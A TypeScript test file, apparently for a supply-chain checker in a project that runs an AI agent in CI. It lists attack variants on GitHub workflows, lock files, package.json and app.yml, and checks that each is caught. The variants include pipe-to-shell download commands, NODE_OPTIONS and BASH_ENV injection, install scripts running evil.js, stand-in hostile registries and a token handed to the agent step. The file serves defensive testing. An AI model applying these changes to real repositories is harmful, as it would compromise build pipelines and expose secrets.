import { readFileSync } from "node:fs";
import {
  findAppFaults,
  findFileFaults,
  findLockFaults,
  findPackageFaults,
  findWorkflowFaults,
  type SupplyFault,
} from "../support/supply-chain.ts";
import { attackFamily, type AttackVariants } from "./attack-family.ts";

/** A proposed change to a file that controls code with rights. */
type Change = { readonly file: string; readonly change: (text: string) => string };
type Expected = Change & { readonly expected: string };

const read = (path: string): string => readFileSync(new URL(`../../${path}`, import.meta.url), "utf8");

const findFaults = (file: string, text: string): readonly SupplyFault[] => {
  if (file === "package-lock.json") return findLockFaults(text);
  if (file === "package.json") return findPackageFaults(text);
  return file === "app.yml" ? findAppFaults(text) : findWorkflowFaults(text);
};

/** An attack gets through if the changed file passes the check of every change, or if the proposal changes nothing. */
const propose = ({ file, change }: Change) => {
  const before = read(file);
  const after = change(before);
  if (after === before) return { through: `nothing of ${file} changed` };
  const [fault] = findFaults(file, after);
  return fault === undefined ? { through: after.slice(0, 100) } : { stopped: fault.code };
};

const each = (entries: readonly (readonly [string, Expected])[]): AttackVariants<Change> => Object.fromEntries(entries);

const put = (from: RegExp | string, to: string) => (text: string) => text.replace(from, to);
const CHECKOUT = /actions\/checkout@[0-9a-f]{40} # v[\d.]+/;

/** Attacks on any workflow that checks out and runs commands. */
const WORKFLOW_CHANGES: Readonly<Record<string, readonly [code: string, change: (text: string) => string]>> = {
  "an action by a moving tag": ["unpinned-action", put(CHECKOUT, "actions/checkout@v4")],
  "an action by an exact tag": ["unpinned-action", put(CHECKOUT, "actions/checkout@v4.2.2")],
  "an action by a branch": ["unpinned-action", put(CHECKOUT, "actions/checkout@main")],
  "an action by a short commit": ["unpinned-action", put(CHECKOUT, "actions/checkout@11bd719")],
  "an action of the same repository, which a pull request writes": ["unpinned-action", put(CHECKOUT, "./tools/checkout")],
  "an action from an image": ["unpinned-action", put(CHECKOUT, "docker://alpine:3")],
  "a credential that checkout keeps": ["kept-credential", put("persist-credentials: false", "persist-credentials: true")],
  "a checkout that does not say": ["kept-credential", put("persist-credentials: false", "fetch-depth: 0")],
  "rights for the whole workflow": ["open-permissions", put("permissions: {}", "permissions: write-all")],
  "rights by default": ["open-permissions", put("permissions: {}\n", "")],
  "a job with more rights": [
    "open-permissions",
    put(/permissions: \{ contents: (?:read|write)/, "permissions: { packages: write, contents: read"),
  ],
  "a job with all rights": ["open-permissions", put(/permissions: \{ contents: \w+ \}/, "permissions: write-all")],
  "a job without a limit": ["no-time-limit", put(/ +timeout-minutes: \d+\n/, "")],
  "another runner": ["other-runner", put("runs-on: ubuntu-latest", "runs-on: self-hosted")],
  "an action of another owner by its commit": ["unpinned-action", put(/actions\/checkout@/, "evil/checkout@")],
  "an action beside the named one": ["unpinned-action", put(/actions\/checkout@/, "actions/checkout/../../evil/x@")],
  "a checkout of another repository": [
    "foreign-checkout",
    put("persist-credentials: false", "persist-credentials: false, repository: evil/x"),
  ],
  "a checkout with a person's token": [
    "foreign-checkout",
    put("persist-credentials: false", 'persist-credentials: false, token: "${{ secrets.PAT }}"'),
  ],
  "a checkout with submodules": ["foreign-checkout", put("persist-credentials: false", "persist-credentials: false, submodules: true")],
  "packages of another registry": [
    "other-registry",
    put(/node-version: ("[^"]+")/, 'node-version: $1, registry-url: "https://evil.example"'),
  ],
  "code that node loads first": [
    "loaded-code",
    put(/( +)- run: /, "$1- { run: x, env: { NODE_OPTIONS: --require=./evil.js } }\n$1- run: "),
  ],
  "a script that bash reads first": ["loaded-code", put(/( +)- run: /, "$1- { run: x, env: { BASH_ENV: ./evil.sh } }\n$1- run: ")],
  "a registry by a variable": [
    "loaded-code",
    put(/( +)- run: /, '$1- { run: x, env: { npm_config_registry: "https://evil.example" } }\n$1- run: '),
  ],
  "a shell of the repository": ["foreign-shell", put(/( +)- run: /, '$1- shell: "./evil {0}"\n$1  run: ')],
  "a run for any comment on a discussion": ["hostile-event", put(/^on:\n/m, "on:\n  discussion_comment:\n")],
  "a run that other workflows call": ["hostile-event", put(/^on:\n/m, "on:\n  workflow_call:\n")],
  "a run with the rights of the base for any pull request": ["hostile-event", put(/^on:\n/m, "on:\n  pull_request_target:\n")],
  "a run for any comment": ["hostile-event", put(/^on:\n/m, "on:\n  issue_comment:\n")],
  "a run after any other": ["hostile-event", put(/^on:\n/m, "on:\n  workflow_run: { workflows: [ci] }\n")],
  "a secret for the whole workflow": ["wide-secret", put(/^env:\n|^(?=jobs:\n)/m, "env:\n  T: ${{ secrets.TOKEN }}\n")],
};

const RUN_CHANGES: Readonly<Record<string, readonly [code: string, step: string]>> = {
  "a title as code": ["injected-expression", 'echo "${{ github.event.pull_request.title }}"'],
  "a branch as code": ["injected-expression", "git checkout ${{ github.head_ref }}"],
  "a script from a page": ["downloaded-script", "curl -fsSL https://example.com/x | bash"],
  "a script from a page, by wget": ["downloaded-script", "wget -qO- https://example.com/x | sh"],
  "a script from a page, by node": ["downloaded-script", "curl -fsSL https://example.com/x | node"],
  "a script from a page, as root": ["downloaded-script", "curl -fsSL https://example.com/x | sudo bash"],
  "a script from a page, by substitution": ["downloaded-script", "bash <(curl -fsSL https://example.com/x)"],
  "a script from a page, in an evaluation": ["downloaded-script", 'eval "$(wget -qO- https://example.com/x)"'],
  "a package that npm executes": ["unlocked-install", "npm exec left-pad"],
  "a package that another program executes": ["unlocked-install", "pnpm dlx left-pad"],
  "packages outside of the lock file": ["unlocked-install", "npm install left-pad"],
  "a package run by name": ["unlocked-install", "npx left-pad"],
};

const WORKFLOWS = ["ci", "nightly", "release"].map((name) => `.github/workflows/${name}.yml`);
const STEP = ".github/workflows/enki-step.yml";

const ofWorkflows = WORKFLOWS.flatMap((file) => [
  ...Object.entries(WORKFLOW_CHANGES).map(([how, [expected, change]]) => [`${file}: ${how}`, { file, change, expected }] as const),
  ...Object.entries(RUN_CHANGES).map(
    ([how, [expected, step]]) =>
      [
        `${file}: ${how}`,
        { file, change: put(/( +)- run: /, `$1- run: ${JSON.stringify(step).replaceAll("$", "$$$$")}\n$1- run: `), expected },
      ] as const,
  ),
]);

const stepChange = (expected: string, change: (text: string) => string): Expected => ({ file: STEP, change, expected });
const ofStep: AttackVariants<Change> = {
  "the step: a token for the agent": stepChange(
    "token-for-agent",
    put("command: agent\n", "command: agent\n          token: ${{ github.token }}\n"),
  ),
  "the step: a token for the tests": stepChange(
    "token-for-agent",
    put("command: verify\n", "command: verify\n          token: ${{ github.token }}\n"),
  ),
  "the step: an upload by tag": stepChange("unpinned-action", put(/actions\/upload-artifact@[0-9a-f]{40}/, "actions/upload-artifact@v4")),
  "the step: a download by branch": stepChange(
    "unpinned-action",
    put(/actions\/download-artifact@[0-9a-f]{40}/, "actions/download-artifact@main"),
  ),
  "the step: Enki by a branch": stepChange("unpinned-action", put(/([\w-]+\/enki)@v[\d.]+/, "$1@main")),
  "the step: Enki by a major tag": stepChange("unpinned-action", put(/([\w-]+\/enki)@v[\d.]+/, "$1@v0")),
  "the step: the model's key for a whole job": stepChange(
    "wide-secret",
    put(
      "    environment: { name: enki, deployment: false }\n",
      '    environment: { name: enki, deployment: false }\n    env: { K: "${{ secrets.ENKI_MODEL_KEY }}" }\n',
    ),
  ),
  "the step: secrets handed on": stepChange(
    "foreign-job",
    put(
      "    environment: { name: enki, deployment: false }\n",
      "    environment: { name: enki, deployment: false }\n    secrets: inherit\n",
    ),
  ),
  "the step: in an image": stepChange(
    "foreign-job",
    put(
      "    environment: { name: enki, deployment: false }\n",
      "    environment: { name: enki, deployment: false }\n    container: evil/image\n",
    ),
  ),
  "the step: rights to change workflows": stepChange(
    "open-permissions",
    put("permissions: { contents: read }", "permissions: { actions: write }"),
  ),
  "the step: a run for any issue": stepChange("hostile-event", put(/^on:\n/m, "on:\n  issues:\n")),
};

type Lock = { lockfileVersion: number; packages: Record<string, Record<string, unknown>> };
const lockChange = (expected: string, change: (lock: Lock, entry: Record<string, unknown>) => void): Expected => ({
  file: "package-lock.json",
  expected,
  change: (text) => {
    const lock = JSON.parse(text) as Lock;
    change(lock, lock.packages["node_modules/yaml"] ?? {});
    return JSON.stringify(lock);
  },
});
const ofLock: AttackVariants<Change> = {
  "the lock file: a package without integrity": lockChange("lock-integrity", (_, entry) => delete entry["integrity"]),
  "the lock file: an empty integrity": lockChange("lock-integrity", (_, entry) => (entry["integrity"] = "")),
  "the lock file: a weak integrity": lockChange("lock-integrity", (_, entry) => (entry["integrity"] = `sha1-${"a".repeat(27)}=`)),
  "the lock file: two integrities to choose from": lockChange(
    "lock-integrity",
    (_, entry) => (entry["integrity"] = `${String(entry["integrity"])} sha1-${"a".repeat(27)}=`),
  ),
  "the lock file: another registry": lockChange("lock-host", (_, entry) => (entry["resolved"] = "https://registry.example.com/yaml.tgz")),
  "the lock file: a registry of a similar name": lockChange(
    "lock-host",
    (_, entry) => (entry["resolved"] = "https://registry.npmjs.org.example.com/yaml.tgz"),
  ),
  "the lock file: without encryption": lockChange(
    "lock-host",
    (_, entry) => (entry["resolved"] = "http://registry.npmjs.org/yaml/-/yaml-2.9.1.tgz"),
  ),
  "the lock file: a user in the address": lockChange(
    "lock-host",
    (_, entry) => (entry["resolved"] = "https://registry.npmjs.org@example.com/yaml.tgz"),
  ),
  "the lock file: a git repository": lockChange("lock-host", (_, entry) => (entry["resolved"] = "git+ssh://git@github.com/x/yaml.git#abc")),
  "the lock file: a file": lockChange("lock-host", (_, entry) => (entry["resolved"] = "file:../yaml.tgz")),
  "the lock file: a link": lockChange("lock-link", (_, entry) => (entry["link"] = true)),
  "the lock file: a package with an install script": lockChange("lock-script", (_, entry) => (entry["hasInstallScript"] = true)),
  "the lock file: another package under the name": lockChange("lock-alias", (_, entry) => (entry["name"] = "evil")),
  "the lock file: a range": lockChange("lock-version", (_, entry) => (entry["version"] = "^2.0.0")),
  "the lock file: a folder outside": lockChange("lock-path", (lock, entry) => (lock.packages["../evil"] = { ...entry })),
  "the lock file: a folder of the repository": lockChange("lock-path", (lock, entry) => (lock.packages["src/evil"] = { ...entry })),
  "the lock file: an old format": lockChange("lock-format", (lock) => (lock.lockfileVersion = 1)),
};

const packageChange = (expected: string, change: (text: string) => string): Expected => ({ file: "package.json", expected, change });
const ofPackage: AttackVariants<Change> = {
  "package.json: a prepare script": packageChange("install-script", put(/"prepack": "[^"]+"/, '"prepare": "node evil.js"')),
  ...each(
    ["preinstall", "install", "postinstall", "prepublish", "prepublishOnly", "postpack", "version"].map((name) => [
      `package.json: a ${name} script`,
      packageChange("install-script", put('"scripts": {', `"scripts": {"${name}": "node evil.js",`)),
    ]),
  ),
  ...each(
    ["^2.0.0", "*", "latest", "github:x/yaml", "file:../yaml", "npm:evil@1.0.0", "https://example.com/yaml.tgz"].map((range) => [
      `package.json: yaml as ${range}`,
      packageChange("inexact-version", put(/"yaml": "[^"]+"/, `"yaml": "${range}"`)),
    ]),
  ),
};

const fieldChange = (expected: string, name: string, value: unknown): Expected =>
  packageChange(expected, (text) => JSON.stringify({ ...(JSON.parse(text) as object), [name]: value }));
const ofFields: AttackVariants<Change> = {
  "package.json: a package that is packed along": fieldChange("foreign-field", "bundleDependencies", ["yaml"]),
  "package.json: a folder as a package": fieldChange("foreign-field", "workspaces", ["evil"]),
  "package.json: a native build": fieldChange("foreign-field", "gypfile", true),
  "package.json: a package manager from a page": fieldChange("foreign-field", "packageManager", "yarn@https://evil.example/yarn.js"),
  "package.json: an import of other code": fieldChange("foreign-field", "imports", { "#core": "./evil.js" }),
  "package.json: another name": fieldChange("other-name", "name", "enki"),
  "package.json: a program in the place of npm": fieldChange("other-name", "bin", { enki: "bin/enki.cjs", npm: "evil.js" }),
  "package.json: another registry": fieldChange("other-registry", "publishConfig", { registry: "https://evil.example" }),
  "package.json: an override by another package": fieldChange("inexact-version", "overrides", { yaml: "npm:evil@1.0.0" }),
  "package.json: an override below a package": fieldChange("inexact-version", "overrides", { probot: { yaml: "github:x/yaml" } }),
};

const appChange = (expected: string, change: (text: string) => string): Expected => ({ file: "app.yml", expected, change });
const ofApp: AttackVariants<Change> = {
  ...each(
    [
      "administration: write",
      "workflows: write",
      "secrets: write",
      "environments: write",
      "members: read",
      "packages: write",
      "organization_hooks: write",
    ].map((right) => [`app.yml: ${right}`, appChange("wide-app", put("default_permissions:\n", `default_permissions:\n  ${right}\n`))]),
  ),
  "app.yml: checks: write": appChange("wide-app", put("checks: read", "checks: write")),
  "app.yml: public": appChange("public-app", put("public: false", "public: true")),
  "app.yml: public by default": appChange("public-app", put("public: false\n", "")),
  "app.yml: a webhook without encryption": appChange(
    "plain-webhook",
    put("default_events:", "hook_attributes: { url: http://example.com }\ndefault_events:"),
  ),
  "app.yml: a person's rights on installation": appChange(
    "wide-app",
    put("default_events:", "request_oauth_on_install: true\ndefault_events:"),
  ),
};

attackFamily<Change>("supply", { ...each(ofWorkflows), ...ofStep, ...ofLock, ...ofPackage, ...ofFields, ...ofApp }, propose);

/** Files that decide, like the checked files, about installed or executed code. */
const ADDED_FILES = [
  "npm-shrinkwrap.json",
  ".npmrc",
  "examples/.npmrc",
  "yarn.lock",
  "pnpm-lock.yaml",
  "pnpm-workspace.yaml",
  ".yarnrc.yml",
  ".yarn/releases/yarn-4.cjs",
  ".pnpmfile.cjs",
  "bun.lock",
  "bunfig.toml",
  ".gitmodules",
  ".lfsconfig",
  ".husky/pre-commit",
  ".githooks/pre-push",
  ".vscode/tasks.json",
  ".devcontainer/devcontainer.json",
  ".envrc",
  "NPM-SHRINKWRAP.JSON",
  "node_modules/yaml/index.js",
];
attackFamily("supply", Object.fromEntries(ADDED_FILES.map((path) => [`another file: ${path}`, { path }])), ({ path }) => {
  const [fault] = findFileFaults([path]);
  return fault === undefined ? { through: path } : { stopped: fault.code };
});
